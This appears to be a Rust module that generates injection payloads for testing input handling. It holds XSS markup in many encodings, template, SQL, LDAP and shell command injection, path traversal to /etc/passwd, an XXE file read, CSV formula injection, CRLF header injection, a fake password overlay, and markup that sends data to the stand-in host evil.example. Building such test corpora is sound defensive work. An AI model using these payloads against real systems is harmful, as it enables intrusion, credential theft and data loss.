//! Injection payloads: the public list of naughty strings, and our own markup.

/// All payloads, without duplicates.
pub fn all() -> Vec<String> {
    let mut all: Vec<String> = naughty_strings::BLNS.iter().map(|text| (*text).to_owned()).collect();
    all.extend(elements());
    all.extend(escapes());
    all.extend(encoded());
    all.extend(LINES.lines().filter(|line| !line.is_empty()).map(str::to_owned));
    all.extend(unseen());
    all.sort();
    all.dedup();
    all
}

/// About 150 of them: at least one with each tag, event, form, escape, encoding and invisible mark, and some others.
pub fn sample() -> Vec<String> {
    let (tags, events): (Vec<&str>, Vec<&str>) = (TAGS.split(' ').collect(), EVENTS.split(' ').collect());
    let mut some: Vec<String> =
        tags.iter().enumerate().map(|(at, tag)| element(tag, events[at % events.len()], at % FORMS)).collect();
    some.extend(WAYS_OUT.iter().enumerate().map(|(at, out)| [*out, SHOWING[at % SHOWING.len()]].concat()));
    // Some encodings leave a text unchanged.
    let changed = |at: usize| SHOWING.iter().cycle().skip(at).map(move |text| (text, encodings(text).remove(at)));
    let encoded =
        (0..encodings("").len()).filter_map(|at| changed(at).take(SHOWING.len()).find(|(text, out)| *text != out));
    some.extend(encoded.map(|(_, out)| out));
    some.extend(MARKS.chars().enumerate().map(|(at, mark)| with_mark(mark, at)));
    let others = naughty_strings::BLNS.iter().copied().chain(LINES.lines()).filter(|text| !text.is_empty());
    some.extend(others.step_by(60).map(str::to_owned));
    some.sort();
    some.dedup();
    some
}

/// Every tag with every event.
fn elements() -> Vec<String> {
    let each = |tag: &'static str| {
        EVENTS.split(' ').flat_map(move |event| (0..FORMS).map(move |form| element(tag, event, form)))
    };
    TAGS.split(' ').flat_map(each).collect()
}

const FORMS: usize = 3;

fn element(tag: &str, event: &str, form: usize) -> String {
    match form {
        0 => format!("<{tag} {event}=alert(1)>"),
        1 => format!("\"><{tag} {event}=\"alert(1)\" x=\""),
        _ => format!("'><{}/{}='alert(1)'", tag.to_uppercase(), event.to_uppercase()),
    }
}

/// Escapes from a text context, each before markup with a visible effect.
fn escapes() -> Vec<String> {
    let out = |before: &&str| SHOWING.iter().map(|shown| [before, *shown].concat()).collect::<Vec<_>>();
    WAYS_OUT.iter().flat_map(out).collect()
}

/// Markup with a visible effect, encoded so that a careless decoder would restore it.
fn encoded() -> Vec<String> {
    SHOWING.iter().flat_map(|text| encodings(text)).collect()
}

fn encodings(text: &str) -> Vec<String> {
    let each = |text: &str, how: fn(char) -> String| text.chars().map(how).collect::<String>();
    vec![
        each(text, |character| format!("&#{};", u32::from(character))),
        each(text, |character| format!("&#{:07}", u32::from(character))),
        each(text, |character| format!("&#x{:x};", u32::from(character))),
        each(text, |character| format!("%{:02x}", u32::from(character))),
        each(text, |character| format!("%25{:02X}", u32::from(character))),
        each(text, |character| format!("\\u{:04x}", u32::from(character))),
        each(text, |character| format!("\\x{:02x}", u32::from(character))),
        each(text, |character| format!("\\{:o}", u32::from(character))),
        each(text, |character| char::from_u32(u32::from(character) + 0xfee0).unwrap_or(character).to_string()),
        text.replace('<', "&lt;").replace('>', "&gt;"),
        text.replace('<', "&amp;lt;"),
        text.replace('<', "+ADw-").replace('>', "+AD4-"),
        text.replace('<', "<\0"),
        text.replace('<', "< "),
        text.replace('<', "<<"),
        text.replace("alert", "al\u{ad}ert"),
        text.replace(' ', "\u{c}"),
        text.replace(' ', "\n"),
        text.replace("script", "scr\tipt").replace("on", "o\u{200b}n"),
    ]
}

/// Characters that are invisible, reverse the following text, or end a line somewhere.
pub const MARKS: &str = "\0\u{1}\u{7}\u{8}\t\n\u{b}\u{c}\r\u{1b}\u{7f}\u{80}\u{85}\u{9f}\u{a0}\u{ad}\u{34f}\u{61c}\u{115f}\u{1680}\u{180e}\u{2000}\
    \u{200b}\u{200c}\u{200d}\u{200e}\u{200f}\u{2028}\u{2029}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{202f}\u{205f}\u{2060}\
    \u{2066}\u{2067}\u{2068}\u{2069}\u{206a}\u{3000}\u{3164}\u{fe0f}\u{feff}\u{ffa0}\u{fff9}\u{fffc}\u{fffd}\u{e0001}\u{e0041}\u{10ffff}";

/// Each mark in each pattern.
fn unseen() -> impl Iterator<Item = String> {
    MARKS.chars().flat_map(|mark| (0..WAYS).map(move |way| with_mark(mark, way)))
}

const WAYS: usize = 4;

fn with_mark(mark: char, way: usize) -> String {
    match way % WAYS {
        0 => format!("invoice{mark}fdp.exe"),
        1 => format!("{mark}<b>{mark}"),
        2 => format!("{mark}"),
        _ => format!("a{mark}{mark}{mark} "),
    }
}

pub const TAGS: &str = "img svg body iframe video audio input details marquee object embed form a button select textarea math style link \
                    script x-y bdi template";

pub const EVENTS: &str =
    "onerror onload onclick onfocus onmouseover ontoggle onbegin onanimationstart onpointerdown onbeforetoggle";

pub const WAYS_OUT: &[&str] = &[
    "",
    "\"",
    "'",
    "`",
    ">",
    "\">",
    "'>",
    "-->",
    "--!>",
    "<!--",
    "<![CDATA[",
    "]]>",
    "?>",
    "%>",
    "*/",
    "//",
    "\\\"",
    "\\'",
    "\\",
    "&quot;>",
    "&#34;>",
    "</bdi>",
    "</p></li></ul>",
    "</code>",
    "</a>",
    "</button>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</select>",
    "</option>",
    "</svg>",
    "</math>",
    "</table>",
    "</body></html>",
    "<plaintext>",
    "\0",
    "\u{feff}",
];

/// Markup with a visible effect.
pub const SHOWING: &[&str] = &[
    "<b>bold</b>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<script>alert(1)</script>",
    "<iframe srcdoc=x></iframe>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=key></form>",
    "<a href=javascript:alert(1)>key</a>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
];

const LINES: &str = r##"
{{7*7}}
{{constructor.constructor('alert(1)')()}}
{{$on.constructor('alert(1)')()}}
{% raw %}{{7*7}}
${7*7}
${alert(1)}
`${alert(1)}`
#{7*7}
#{alert(1)}
*{7*7}
@{7*7}
~{7*7}
@(7*7)
<%= 7*7 %>
<% alert(1) %>
<?php phpinfo() ?>
<?= 7*7 ?>
[[7*7]]
[[${7*7}]]
{7*7}
{alert(1)}
{title}
{0}
{}
{:?}
{{}}
%s%s%s%n
%d %x %p
$1 $& $` $' $$
\1 \0 \g<0>
{"__proto__":{"x":1}}
__proto__
constructor
toString
hasOwnProperty
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
java	script:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
javascript://%0aalert(1)
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
blob:https://evil.example/x
file:///etc/passwd
https://evil.example/?x=<script>
//evil.example
\\evil.example\share
=1+1
=cmd|' /C calc'!A0
+1+1
-1+1
@SUM(1)
=HYPERLINK("https://evil.example","key")
'; DROP TABLE items;--
" OR "1"="1
*)(uid=*))(|(uid=*
$(id)
`id`
; id
| id
&& id
../../../../etc/passwd
..%2f..%2f
%00
%0d%0aSet-Cookie: a=b
a\r\nSet-Cookie: a=b
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */onerror=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>\x3e
"onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//
'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\></|\><plaintext/onmouseover=prompt(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><foreignObject><body onload=alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x">
<svg><style><img src=x onerror=alert(1)></style>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template shadowrootmode=open><script>alert(1)</script></template>
<div style="background:url(javascript:alert(1))">
<div style="position:fixed;inset:0">Your session has ended. Type your password.</div>
<p id=page-heading tabindex=-1>
<img name=getElementById>
<form id=body><input name=children>
<a id=location><a id=location name=href href=javascript:alert(1)>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example>
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<isindex action=javascript:alert(1) type=image>
<video><source onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<x contenteditable onblur=alert(1)>lose focus
<a/href="j&Tab;a&Tab;v&Tab;asc&NewLine;ri&Tab;pt&colon;alert&lpar;1&rpar;">x
<button popovertarget=x>x</button><xss onbeforetoggle=alert(1) popover id=x>
<xss onscrollsnapchange=alert(1) style=display:block;overflow:auto>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>
&lt;script&gt;alert(1)&lt;/script&gt;
&copy &notit; &amp;amp; &#0; &#x110000; &#xD800;
&nbsp;&zwnj;&lrm;&rlm;&ZeroWidthSpace;
𝒔𝒄𝒓𝒊𝒑𝒕 ｓｃｒｉｐｔ ⓢⓒⓡⓘⓟⓣ
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
﹤img src=x onerror=alert(1)﹥
Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!
﷽﷽﷽﷽﷽
👩‍👩‍👧‍👦🏳️‍🌈🇺🇳
ﬁ ﬀ Ⅷ ℡ İ ı ß ẞ ſ K Å
אבג abc ابت
"##;
